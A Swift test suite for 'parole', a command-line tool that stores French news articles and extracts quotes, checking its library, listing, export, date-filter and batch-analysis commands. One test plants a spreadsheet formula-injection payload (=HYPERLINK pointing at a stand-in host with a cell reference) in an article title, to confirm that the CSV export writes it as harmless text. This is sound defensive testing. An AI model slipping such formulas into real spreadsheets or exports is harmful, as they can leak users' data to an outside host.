import Foundation
import ParoleTestSupport
import Testing

/// The library commands run as a user would: add, quotes, actors, search, export, and the
/// batch mode of analyze.
@Suite final class LibraryCommandTests: ScratchSuite {
    static let page = """
        <html><head><title>Site</title></head><body><nav><p>Menu</p></nav>
        <h1>Moscou répond</h1><h2>Le Kremlin a réagi dans la soirée.</h2>
        <p>12 juin 2012. - « Nous ne céderons pas », a déclaré Dmitri Peskov, porte-parole du Kremlin.</p>
        <footer><p>Mentions légales</p></footer></body></html>
        """

    static let feed = SampleFeeds.twoArticles

    @Test func untilADayTakesThatWholeDayAndUntilADateTimeStopsAtThatInstant() throws {
        try write("fil.xml", Self.feed)
        let library = ["--library", "lib.sqlite"]
        #expect(try parole(["add"] + library + ["fil.xml"]).status == 0)
        // "Premier" is dated 2012-07-02 10:00 GMT and holds the one quote.
        func quotes(_ command: String, until: String) throws -> Int? {
            let result = try parole([command] + library + ["--until", until, "--format", "json"])
            #expect(result.status == 0, "\(result.stderr)")
            let object = try JSONSerialization.jsonObject(with: result.stdout)
            return (object as? [Any])?.count ?? (object as? [String: Any])?["quotes"] as? Int
        }
        for command in ["quotes", "stats"] {
            #expect(try quotes(command, until: "2012-07-02") == 1, "\(command)")
            #expect(try quotes(command, until: "2012-07-02T11:00:00Z") == 1, "\(command)")
            #expect(try quotes(command, until: "2012-07-02T09:00:00Z") == 0, "\(command)")
            #expect(try quotes(command, until: "2012-07-01T12:00:00Z") == 0, "\(command)")
            #expect(try quotes(command, until: "2012-07-01") == 0, "\(command)")
        }
    }

    @Test func addsAPageAndAFeedThenQueriesThem() throws {
        try write("page.html", Self.page)
        try write("fil.xml", Self.feed)
        let library = ["--library", "lib.sqlite"]
        let added = try parole(["add"] + library + ["page.html", "fil.xml"])
        #expect(added.status == 0, "\(added.stderr)")
        #expect(added.output.hasPrefix("added 3, updated 0, unchanged 0"))
        let again = try parole(["add"] + library + ["page.html", "fil.xml"])
        #expect(again.output.hasPrefix("added 0, updated 0, unchanged 3"))

        let search = try parole(["search"] + library + ["legislatives"])
        #expect(search.status == 0)
        #expect(search.output.contains("Second"))
        #expect(!search.output.contains("Moscou"))

        let csv = try parole(["quotes"] + library + ["--format", "csv"])
        #expect(csv.status == 0)
        #expect(
            csv.output.hasPrefix(
                "date,actor,speaker,kind,quote,article_id,article_title,start,end,url,site,via,cue,actor_type,quote_number\r\n"
            ))

        let day = try parole(["quotes"] + library + ["--since", "2012-06-12", "--until", "2012-06-12"])
        #expect(day.output.contains("Moscou répond") && !day.output.contains("Premier"))
        #expect(try parole(["quotes"] + library + ["--until", "hier"]).status == 64)
        let since = try parole(["quotes"] + library + ["--since", "2012-07-01", "--format", "json"])
        let quotes = try JSONSerialization.jsonObject(with: since.stdout) as? [[String: Any]] ?? []
        #expect(quotes.allSatisfy { ($0["articleTitle"] as? String) != "Moscou répond" })

        let export = try parole(["export"] + library)
        let lines = export.output.split(separator: "\n")
        #expect(lines.count == 3)
        let first = try JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as? [String: Any]
        let analysis = first?["analysis"] as? [String: Any]
        #expect((analysis?["title"] as? String) == "Moscou répond")
        #expect((analysis?["text"] as? String)?.contains("Menu") == false)

        #expect(try parole(["actors"] + library + ["--top", "5"]).status == 0)
    }

    @Test func listPrintsEachArticleWithItsNumberDateQuotesAndTitle() throws {
        try write("page.html", Self.page)
        try write("fil.xml", Self.feed)
        let library = ["--library", "lib.sqlite"]
        #expect(try parole(["add"] + library + ["page.html", "fil.xml"]).status == 0)
        let all = try parole(["list"] + library)
        #expect(all.status == 0, "\(all.stderr)")
        let rows = all.output.split(separator: "\n").map { $0.split(separator: "\t").map(String.init) }
        #expect(rows.map { $0[1] } == ["2012-07-03", "2012-07-02", "2012-06-12"])
        #expect(rows.map { $0[3] } == ["● Second", "● Premier", "● Moscou répond"])
        #expect(rows.map { $0[2] } == ["0", "1", "1"])
        #expect(all.stderr.isEmpty)
        // The number is the one `correct` takes.
        let number = rows[2][0]
        #expect(try parole(["correct"] + library + [number]).output.contains("Moscou répond"))
        let first = try parole(["list"] + library + ["--limit", "1", "--sort", "title"])
        #expect(first.output.hasSuffix("\tMoscou répond\n") || first.output.hasSuffix("\t● Moscou répond\n"))
        #expect(first.errorLines == ["parole: 1 of 3 articles listed; --limit N lists more"])
        let json = try JSONSerialization.jsonObject(with: try parole(["list"] + library + ["--json"]).stdout)
        #expect((json as? [[String: Any]])?.count == 3)
        #expect(try parole(["list", "--library", "none.sqlite"]).status == 1)
        // Dates choose the articles, as for quotes and stats; the note counts those chosen.
        let july = try parole(["list"] + library + ["--since", "2012-07", "--until", "2012-07"])
        #expect(
            july.output.split(separator: "\n").map { $0.split(separator: "\t")[1] } == [
                "2012-07-03", "2012-07-02",
            ])
        let one = try parole(["list"] + library + ["--since", "2012-07", "--limit", "1", "--unread"])
        #expect(
            one.errorLines == ["parole: 1 of 2 unread articles of those dates listed; --limit N lists more"])
        #expect(try parole(["list"] + library + ["--until", "hier"]).status == 64)
    }

    @Test func aNumberOpensThatLibraryArticleAsParoleListNumbersIt() throws {
        try write("page.html", Self.page)
        let library = ["--library", "lib.sqlite"]
        #expect(try parole(["add"] + library + ["page.html"]).status == 0)
        let number = try #require(
            try parole(["list"] + library).output.split(separator: "\t").first.map(String.init))
        let read = try parole(["read"] + library + [number, "--render", "80x24"])
        #expect(read.status == 0, "\(read.stderr)")
        #expect(read.output.contains("Moscou répond"))
        let missing = try parole(["read"] + library + ["999"])
        #expect(missing.status == 1)
        #expect(
            missing.errorLines == ["parole: no article 999 in the library at lib.sqlite (see `parole list`)"])
        // A file named by a number is still that file.
        try write("999", "Un titre\n« Nous verrons », a dit Anne Martin.\n")
        #expect(try parole(["read"] + library + ["999", "--render", "80x24"]).output.contains("Un titre"))
    }

    @Test func anActorNameStandingForSeveralPeopleSaysSo() throws {
        try write("a.txt", "Premier titre\n« Nous tiendrons », a déclaré Sylvie Moreau, maire de la ville.\n")
        try write("b.txt", "Second titre\n« Rien ne change », a déclaré Nathalie Moreau, préfète.\n")
        let library = ["--library", "lib.sqlite"]
        #expect(try parole(["add"] + library + ["a.txt", "b.txt"]).status == 0)
        let both = try parole(["quotes"] + library + ["--actor", "Moreau"])
        #expect(both.status == 0)
        #expect(both.output.contains("Sylvie Moreau") && both.output.contains("Nathalie Moreau"))
        #expect(both.errorLines.count == 1)
        #expect(both.errorLines.first?.hasPrefix("parole: note: Moreau names 2 actors (") == true)
        #expect(try parole(["stats"] + library + ["--actor", "Moreau"]).errorLines == both.errorLines)
        let one = try parole(["quotes"] + library + ["--actor", "Sylvie Moreau"])
        #expect(one.stderr.isEmpty && !one.output.contains("Nathalie"))
    }

    @Test func pagesInAnotherLanguageAreNamedFiveAtMostThenCounted() throws {
        try FileManager.default.createDirectory(
            at: scratch.url.appendingPathComponent("seiten"), withIntermediateDirectories: true)
        for n in 1...7 {
            try write(
                "seiten/\(n).html",
                """
                <html lang="de"><body><h1>Die Stadt \(n)</h1><p>Der Bürgermeister hat am Montag gesagt, dass \
                die Stadt mit dem Bau der neuen Brücke nicht vor dem Sommer beginnen wird, und er hat \
                auch gesagt, dass die Kosten für die Bürger nicht steigen werden, weil das Land einen \
                großen Teil davon übernimmt. Die Arbeiten sollen im nächsten Jahr zu Ende sein.</p></body></html>
                """)
        }
        let added = try parole(["add", "--library", "lib.sqlite", "seiten"])
        #expect(added.status == 0, "\(added.stderr)")
        #expect(added.errorLines.count == 6)
        #expect(
            added.errorLines.prefix(5).allSatisfy { $0.contains("(de); the analysis supports French only") })
        #expect(
            added.errorLines.last
                == "parole: note: 2 more articles in a language the analysis does not support (7 in all); "
                + "stored, but not counted in the library's actors and quotes")
        #expect(try parole(["list", "--library", "lib.sqlite"]).output.split(separator: "\n").count == 7)
    }

    static let sitePage = """
        <html lang="fr"><head><title>Le port rouvre | Le Quotidien</title>
        <link rel="canonical" href="https://exemple.fr/port-rouvre">
        <meta property="og:site_name" content="Le Quotidien">
        <meta property="article:published_time" content="2013-03-14T08:00:00Z"></head><body>
        <article><h1>Le port rouvre</h1>
        <p>« =HYPERLINK(\"https://exemple.invalid\") ne marche pas », a déclaré Jeanne Roux, directrice du port, devant la presse réunie jeudi matin sur les quais.</p>
        <p>« Nous rouvrons lundi. », a ajouté Jeanne Roux, qui attend les premiers bateaux dans la semaine.</p>
        </article></body></html>
        """

    @Test func exportCarriesTheSiteAndLanguageOfEachArticle() throws {
        try write("port.html", Self.sitePage)
        let library = ["--library", "lib.sqlite"]
        #expect(try parole(["add"] + library + ["port.html"]).status == 0)
        let line = try #require(try parole(["export"] + library).output.split(separator: "\n").first)
        let record = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
        #expect(record?["site"] as? String == "Le Quotidien")
        #expect(record?["language"] as? String == "fr")
        #expect(record?["link"] as? String == "https://exemple.fr/port-rouvre")
    }

    @Test func csvCellsASpreadsheetWouldRunAsFormulasAreWrittenAsText() throws {
        let title = #"=HYPERLINK("https://exemple.invalid/?q="&A1,"Voir")"#
        try write(
            "piege.txt",
            title + "\n« Nous rouvrons lundi », a déclaré Jeanne Roux.\n« Et mardi », a ajouté Jeanne Roux.\n"
        )
        let library = ["--library", "lib.sqlite"]
        #expect(try parole(["add"] + library + ["piege.txt"]).status == 0)
        let csv = try parole(["quotes"] + library + ["--format", "csv"])
        #expect(csv.status == 0, "\(csv.stderr)")
        let rows = csv.output.split(separator: "\r\n").dropFirst()
        #expect(rows.count == 2)
        // The title that opens with "=" is a text cell: no cell starts with "=".
        #expect(rows.allSatisfy { $0.contains(#","'=HYPERLINK(""https://exemple.invalid"#) }, "\(csv.output)")
        #expect(!rows.contains { $0.contains(",=") || $0.contains(",\"=") })
        // Each row ends with the quote's number in its article, as `parole correct --quote` takes it.
        #expect(rows.map { $0.split(separator: ",").last.map(String.init) } == ["1", "2"])
        // JSON keeps the exact text.
        let json = try JSONSerialization.jsonObject(
            with: try parole(["quotes"] + library + ["--format", "json"]).stdout)
        #expect((json as? [[String: Any]])?.first?["articleTitle"] as? String == title)
    }

    @Test func sinceAndUntilTakeAMonthOrAYear() throws {
        try write("port.html", Self.sitePage)
        try write("fil.xml", Self.feed)
        let library = ["--library", "lib.sqlite"]
        #expect(try parole(["add"] + library + ["port.html", "fil.xml"]).status == 0)
        func titles(_ options: [String]) throws -> Set<String> {
            let result = try parole(["quotes"] + library + options + ["--format", "json"])
            #expect(result.status == 0, "\(result.stderr)")
            let quotes = try JSONSerialization.jsonObject(with: result.stdout) as? [[String: Any]] ?? []
            return Set(quotes.compactMap { $0["articleTitle"] as? String })
        }
        #expect(try titles(["--since", "2012-07", "--until", "2012-07"]) == ["Premier"])
        #expect(try titles(["--since", "2013"]) == ["Le port rouvre"])
        #expect(try titles(["--until", "2012"]) == ["Premier"])
        #expect(try titles(["--since", "2013-04"]).isEmpty)
        #expect(try titles(["--since", "2012-02-29", "--until", "2012-07"]) == ["Premier"])
        #expect(try titles(["--since", "2012-7", "--until", "2012-7"]) == ["Premier"])
        for bad in ["2012-007", "2012-13", "12", "2012-07-", "2012-11-31", "2013-02-29", "2012-06-00"] {
            let result = try parole(["quotes"] + library + ["--since", bad])
            #expect(result.status == 64, "\(bad)")
            #expect(
                result.errorLines.first
                    == "Error: --since \(bad): not a date (use yyyy-mm-dd, yyyy-mm or yyyy)")
        }
    }

    @Test func citationsOfAPageGiveItsAddressAndReadAsPrinted() throws {
        try write("port.html", Self.sitePage)
        let library = ["--library", "lib.sqlite"]
        #expect(try parole(["add"] + library + ["port.html"]).status == 0)
        let cited = try parole(["quotes"] + library + ["--actor", "Roux", "--format", "citation"])
        #expect(
            cited.output.contains(
                "« Nous rouvrons lundi », a ajouté Jeanne Roux, directrice du port — Le Quotidien, 14 mars 2013, "
                    + "https://exemple.fr/port-rouvre"), "\(cited.output)")
        // One article's quotes, by its number or the path it was added from.
        let number = try #require(
            try parole(["list"] + library).output.split(separator: "\t").first.map(String.init))
        for reference in [number, "port.html"] {
            let article = try parole(["quotes"] + library + ["--article", reference, "--format", "citation"])
            #expect(article.output.split(separator: "\n").count == 2, "\(reference): \(article.output)")
        }
        #expect(try parole(["quotes"] + library + ["--article", "999"]).status == 1)
        // The reader on `--search` opens an article (here the only one) at its first match.
        let found = try parole(["read"] + library + ["--search", "rouvrons", "--render", "100x30"])
        #expect(found.output.contains("/rouvrons 1/1"), "\(found.output)")
        // The reader opened on the page file cites its address, not the file.
        let detail = try parole(["--render", "100x30", "--keys", "n n v", "port.html"])
        #expect(detail.output.contains("URL      https://exemple.fr/port-rouvre"), "\(detail.output)")
        #expect(!detail.output.contains("port.html"))
    }

    @Test func aDirectoryGivenAsTheLibraryIsNamedAsSuch() throws {
        try FileManager.default.createDirectory(
            at: scratch.url.appendingPathComponent("bib"), withIntermediateDirectories: true)
        for command in [["list"], ["add", "none.txt"], ["read"]] {
            let result = try parole(command + ["--library", "bib"])
            #expect(result.status == 1)
            #expect(
                result.errorLines == [
                    "parole: library bib: is a directory; --library takes the library's file (such as bib/library.sqlite)"
                ], "\(command)")
        }
    }

    @Test func readingCommandsNeedALibrary() throws {
        let result = try parole(["quotes", "--library", "none.sqlite"])
        #expect(result.status == 1)
        #expect(
            result.errorLines == ["parole: no library at none.sqlite yet; add articles with `parole add`"])
    }

    @Test func aDamagedLibraryIsRefusedAndLeftAlone() throws {
        let garbage = Data(repeating: 0x5A, count: 8192)
        try garbage.write(to: scratch.url.appendingPathComponent("bad.sqlite"))
        try write("a.txt", "Titre\nUn paragraphe.")
        let result = try parole(["add", "--library", "bad.sqlite", "a.txt"])
        #expect(result.status == 1)
        #expect(result.stderr.contains("is not a database or is damaged"))
        #expect(try Data(contentsOf: scratch.url.appendingPathComponent("bad.sqlite")) == garbage)
    }

    @Test func batchModeWritesOneAnalysisPerInputLine() throws {
        let input = [
            #"{"id": "t1", "text": "Titre\nLe ministre a déclaré : « Nous avancerons »."}"#,
            "pas du JSON",
            #"{"id": 7, "html": "<html><body><h1>Page</h1><p>Un paragraphe.</p></body></html>"}"#,
            #"{"id": "vide", "html": "<html><body><nav>Menu</nav></body></html>"}"#,
        ].joined(separator: "\n")
        let result = try parole(["analyze", "--jsonl"], input: Data(input.utf8))
        #expect(result.status == 0)
        let lines = result.output.split(separator: "\n").map {
            (try? JSONSerialization.jsonObject(with: Data($0.utf8))) as? [String: Any] ?? [:]
        }
        #expect(lines.count == 4)
        #expect(lines[0]["id"] as? String == "t1")
        #expect((lines[0]["quotes"] as? [Any])?.isEmpty == false)
        #expect(lines[1]["error"] as? String == "not a JSON object")
        #expect(lines[2]["title"] as? String == "Page")
        #expect((lines[2]["id"] as? NSNumber)?.intValue == 7)
        #expect(lines[3]["error"] as? String == "page has no article text")
        #expect(result.errorLines.count == 2)
    }

    @Test func paroleWithNoFileAndNoInputOpensTheLibraryNotAnEmptyStandardInput() throws {
        try write("a.txt", "Moscou\n« Nous ne céderons pas », a déclaré Dmitri Peskov.\n")
        #expect(try parole(["add", "--library", "lib.sqlite", "a.txt"]).status == 0)
        let process = Process()
        process.executableURL = ParoleProcess.executable
        process.currentDirectoryURL = scratch.url
        process.environment = ProcessInfo.processInfo.environment.merging(
            ["PAROLE_LIBRARY": scratch.url.appendingPathComponent("lib.sqlite").path]) { $1 }
        process.standardInput = try FileHandle(forReadingFrom: URL(fileURLWithPath: "/dev/null"))
        let output = Pipe()
        let errors = Pipe()
        process.standardOutput = output
        process.standardError = errors
        try process.run()
        let text = String(decoding: output.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        let messages = String(decoding: errors.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        #expect(process.terminationStatus == 0, "\(messages)")
        #expect(text.hasPrefix("# Moscou\n"), "\(text)")
        #expect(!messages.contains("empty, no article in it"))
    }

    @Test func anEmptyLibrarySaysHowToFillIt() throws {
        #expect(
            try parole(["subscribe", "--library", "lib.sqlite", "https://example.org/fil.xml"]).status == 0)
        let result = try parole(["read", "--library", "lib.sqlite"])
        #expect(result.status == 1)
        #expect(
            result.errorLines == [
                "parole: the library at lib.sqlite is empty: `parole add FILE|DIR|URL...` fills it, "
                    + "`parole update` fetches the feeds it follows"
            ])
    }

    @Test func batchModeSkipsALineOverTheSizeLimitAndGoesOn() throws {
        var input = Data(#"{"id": "long", "text": ""#.utf8)
        input.append(Data(repeating: 0x61, count: 1_100_000))
        input.append(Data(#""}"#.utf8) + Data("\r\n".utf8))
        input.append(Data(#"{"id": "court", "text": "Titre\nFin."}"#.utf8) + Data("\r\n".utf8))
        input.append(Data(repeating: 0x62, count: 1_300_000))
        let result = try parole(["analyze", "--jsonl", "--max-size", "1"], input: input)
        #expect(result.status == 0)
        let lines = result.output.split(separator: "\n").map {
            (try? JSONSerialization.jsonObject(with: Data($0.utf8))) as? [String: Any] ?? [:]
        }
        #expect(lines.count == 3)
        #expect(lines[0]["error"] as? String == "line larger than 1 MB (see --max-size); not read")
        #expect(lines[0]["id"] as? String == "line 1")
        #expect(lines[1]["id"] as? String == "court")
        #expect(lines[1]["title"] as? String == "Titre")
        #expect(lines[2]["id"] as? String == "line 3")
        #expect(result.errorLines.count == 2)
    }

    @Test func batchModeSkipsALineOverTheSizeLimitEvenWhenItsLineBreakIsInTheSameChunk() throws {
        // 1 MB is the limit; the line and its line break fit in one 1 MiB read.
        var input = Data(#"{"id": "long", "text": ""#.utf8)
        input.append(Data(repeating: 0x61, count: 1_020_000))
        input.append(Data(#""}"#.utf8) + Data("\n".utf8))
        input.append(Data(#"{"id": "court", "text": "Titre\nFin."}"#.utf8) + Data("\n".utf8))
        let result = try parole(["analyze", "--jsonl", "--max-size", "1"], input: input)
        #expect(result.status == 0)
        let lines = result.output.split(separator: "\n").map {
            (try? JSONSerialization.jsonObject(with: Data($0.utf8))) as? [String: Any] ?? [:]
        }
        #expect(lines.count == 2)
        #expect(lines.first?["error"] as? String == "line larger than 1 MB (see --max-size); not read")
        #expect(lines.last?["id"] as? String == "court")
    }

    /// Adds two articles quoting `first` then `second` (the same person, as each article
    /// writes the name) and checks that their merge is hidden from `actors --merges` and listed
    /// as `second → first (same name)` with `--same-name`.
    func expectSameNameMerge(_ first: String, _ second: String) throws {
        try write("a.txt", "Moscou\n« Nous ne céderons pas », a déclaré \(first), porte-parole du Kremlin.\n")
        try write("b.txt", "Kiev\n« La situation est calme », a affirmé \(second) lundi.\n")
        let library = ["--library", "lib.sqlite"]
        #expect(try parole(["add"] + library + ["a.txt", "b.txt"]).status == 0)
        let merges = try parole(["actors", "--merges"] + library)
        #expect(merges.status == 0)
        #expect(merges.output.contains("1 merge of the same name not listed"), "\(merges.output)")
        #expect(!merges.output.contains("→"), "\(merges.output)")
        let all = try parole(["actors", "--merges", "--same-name"] + library)
        #expect(all.output.contains("\(second) → \(first) (same name)"), "\(all.output)")
    }

    @Test func mergesOfTheSameNameAreListedOnlyWhenAskedFor() throws {
        try expectSameNameMerge("Dmitri Peskov", "Dmitri Peskov")
    }

    @Test func aNameWrittenInCapitalsOrWithoutAccentsIsTheSameNameAmongMerges() throws {
        try expectSameNameMerge("Hélène Vasseur", "HELENE VASSEUR")
    }
}
